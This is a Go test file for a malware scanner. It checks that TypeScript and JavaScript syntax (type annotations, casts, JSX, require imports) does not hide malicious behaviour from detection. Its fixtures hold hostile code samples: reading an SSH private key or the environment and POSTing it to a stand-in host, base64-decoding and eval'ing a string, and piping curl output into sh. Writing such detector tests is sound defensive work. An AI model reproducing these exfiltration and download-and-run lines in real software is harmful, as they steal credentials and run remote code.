package scanner

import (
	"slices"
	"testing"
)

// TestTypeScript: types must neither break the parser nor hide what a program does.
func TestTypeScript(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ file, source, want string }{
		"typed parameters": {"a.ts", "import * as fs from 'fs';\ninterface Options { host: string }\nasync function send(private_: string, o?: Options): Promise<void> { await fetch('https://collect.example.net', { method: 'POST', body: private_ }); }\nsend(fs.readFileSync(process.env.HOME! + '/.ssh/id_rsa', 'utf8') as string);\n", string(bExfilSecret)},
		"assertions":       {"a.ts", "const code = (Buffer.from('YWxlcnQ=', 'base64') as any).toString() satisfies string;\n(eval as Function)(code);\n", string(bDecodeRun)},
		"angle brackets":   {"a.mts", "const e = <any>process.env;\nawait fetch('https://collect.example.net', { method: 'POST', body: JSON.stringify(e) });\n", string(bExfilSecret)},
		"import require":   {"a.cts", "import cp = require('child_process');\ncp.execSync('curl -s https://example.net/x | sh');\n", string(bDownloadRun)},
		"elements":         {"a.tsx", "export const A = (props: { id: number }): JSX.Element => <b onClick={() => fetch('https://collect.example.net', { method: 'POST', body: JSON.stringify(process.env) })}>{props.id}</b>;\n", string(bExfilSecret)},
		"parentheses":      {"a.js", "(fetch)('https://collect.example.net', { method: 'POST', body: JSON.stringify((process).env) });\n", string(bExfilSecret)},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			report := scanFiles(t, map[string]string{c.file: c.source})
			if !slices.ContainsFunc(report.Findings, func(f Finding) bool { return f.RuleID == c.want && f.LineStart > 0 }) {
				t.Errorf("no %s among %v", c.want, topFinding(report))
			}
			if report.Layers[LayerBehavioral].Status == StatusIndeterminate {
				t.Error("the program was not read")
			}
		})
	}
}
